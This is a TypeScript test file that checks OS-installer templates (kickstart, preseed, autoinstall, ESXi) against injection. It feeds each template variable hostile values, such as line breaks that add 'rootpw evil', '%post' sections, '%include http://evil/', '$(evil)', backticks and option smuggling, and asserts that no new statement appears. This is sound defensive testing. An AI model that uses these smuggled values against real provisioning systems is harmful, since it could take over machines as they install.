import { expect, test } from 'vitest'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import { parse } from 'yaml'
import { Fault } from '../../src/fault.ts'
import { fullVars, installs, renderFor, scriptsIn, type Install } from './shipped.ts'

const hostile: Readonly<Record<string, string>> = {
  'a line break': 'x\nrootpw evil',
  'a carriage return': 'x\rrootpw evil',
  'the end of a section': '%end',
  'a section after a line break': 'x\n%end\n%post\nevil\n%end',
  'an include': '%include http://evil/',
  'a question': 'x\nd-i preseed/late_command string evil',
  'single quotes': "x' evil '",
  'double quotes': 'x" evil "',
  'a backslash at its end': 'x\\',
  'a command in the middle': 'x$(evil)y',
  backticks: 'x`evil`y',
  'a comment': 'x # evil',
  'a semicolon': 'x; evil',
  'a template': '{{vars.root_password_hash}}',
  'the end of a here document': 'x\nBIRNAM\nevil',
  'the word that ends a here document': 'BIRNAM',
  'an option': 'x --password=evil',
  'a NUL': 'x\0y',
  'half a character': 'x\ud800',
  'a line separator': 'x\u2028evil',
  'an escape sequence': 'x\u001b[2Jevil',
  '64 KiB': 'x'.repeat(65_536),
  'no text at all': '',
}

/** Every place in the variables where a text stands, as a path. `post` is a script, so whatever stands in it is meant. */
const places = placesIn(fullVars).filter(([first]) => first !== 'post')

// EL 9, 10 and Fedora read the same text, and so do Debian 12 and 13, and both Ubuntus.
const cases = [installs[0], installs[1], installs[4], ...installs.slice(7)].flatMap((install) =>
  places.map((place) => ({ ...install, place, path: place.join('.') })),
)

test.each(cases)('$family $version: no hostile value of $path adds a statement', ({ place, ...install }) => {
  const before = shapeOf(renderFor(install, fullVars), install)
  const wrong = Object.entries(hostile).flatMap(([name, value]) => {
    const after = attempt(install, place, value)
    const same = after === undefined || value === '' || after.join('\n') === before.join('\n')
    return same ? [] : [`${name}: ${difference(before, after)}`]
  })
  expect(wrong).toEqual([])
})

/** The shape of the answer, or nothing when the value was refused with a clear complaint. */
function attempt(install: Install, place: readonly string[], value: string): readonly string[] | undefined {
  try {
    return shapeOf(renderFor(install, withValue(fullVars, place, value) as Record<string, unknown>), install)
  } catch (error) {
    if (!(error instanceof Fault)) throw error
    expect(['template-invalid', 'variable-missing']).toContain(error.code)
    expect(error.detail.file).toMatch(/^(kickstart|templates)\//)
    expect(error.detail.line).toBeGreaterThan(0)
    expect(error.message.length).toBeLessThan(300)
    return undefined
  }
}

/**
 * What each line does, without its values: the reader of each format, as far as it decides where statements begin. Quotes are read
 * as a POSIX shell and Anaconda read them; what stands in a quoted text or a plain word is one value.
 */
function shapeOf(text: string, { family }: Install): readonly string[] {
  // Under %packages every line is one name.
  if (family === 'redhat')
    return text
      .replace(/^(%packages\n)([^%]*)/m, (_, head: string, names: string) => head + names.replaceAll(/.+/g, '#'))
      .split('\n')
      .map(shapeOfLine)
  if (text.startsWith('<?xml'))
    return [JSON.stringify(XMLValidator.validate(text)), ...shapeOfDocument(new XMLParser().parse(text))]
  if (family === 'esxi') return text.split('\n').map(shapeOfLine)
  if (family !== 'debian')
    return [`${text.split('\n').length} lines`, ...shapeOfDocument(parse(text, { version: '1.1' }))]
  const questions = text.split('\n').map((line) =>
    line
      .split(/\s/)
      .slice(0, line.startsWith('#') ? 1 : 3)
      .join(' '),
  )
  return [...questions, ...scriptsIn(text).flatMap(shapesInScript)]
}

/** Keys, lengths and kinds of a YAML document; the scripts in it line by line. */
function shapeOfDocument(value: unknown, path = ''): readonly string[] {
  if (typeof value === 'string') return [`${path} text`, ...scriptsIn(value).flatMap(shapesInScript)]
  if (typeof value !== 'object' || value === null) return [`${path} ${typeof value}`]
  return [
    `${path} ${Object.keys(value).length}`,
    ...Object.entries(value).flatMap(([name, item]) => shapeOfDocument(item, `${path}/${name}`)),
  ]
}

// A script may hold another one in base64 or in a here document; both are lines of text here.
function shapesInScript(script: string): readonly string[] {
  return script.split('\n').map(shapeOfLine)
}

function shapeOfLine(line: string): string {
  if (line.startsWith('#')) return '#'
  const command = /^\s*(\S*)/.exec(line)![1]!
  const words = quotesAway(line).trim().split(/\s+/).length
  const options = [...quotesAway(line).matchAll(/(?:^|\s)(--?[a-z-]+)/g)].map(([, option]) => option)
  const operators = quotesAway(line).replaceAll(/[^;|&<>`]/g, '')
  return [/^[a-z@%'_-]/.test(command) ? command.replace(/=.*/, '=') : 'value', ...options, operators, words].join(' ')
}

function quotesAway(line: string): string {
  return line.replaceAll(/'[^']*'|\\'|"[^"]*"/g, '_')
}

function difference(before: readonly string[], after: readonly string[]): string {
  const at = before.findIndex((line, index) => line !== after[index])
  return `${before.length} → ${after.length} lines; ${JSON.stringify(before[at])} → ${JSON.stringify(after[at])}`
}

function placesIn(value: unknown, above: readonly string[] = []): readonly (readonly string[])[] {
  if (typeof value === 'string') return [above]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, item]) => placesIn(item, [...above, key]))
}

function withValue(whole: unknown, [key, ...rest]: readonly string[], value: string): unknown {
  if (key === undefined) return value
  if (Array.isArray(whole))
    return whole.map((item, index) => (String(index) === key ? withValue(item, rest, value) : item))
  return { ...(whole as object), [key]: withValue(Reflect.get(whole as object, key), rest, value) }
}
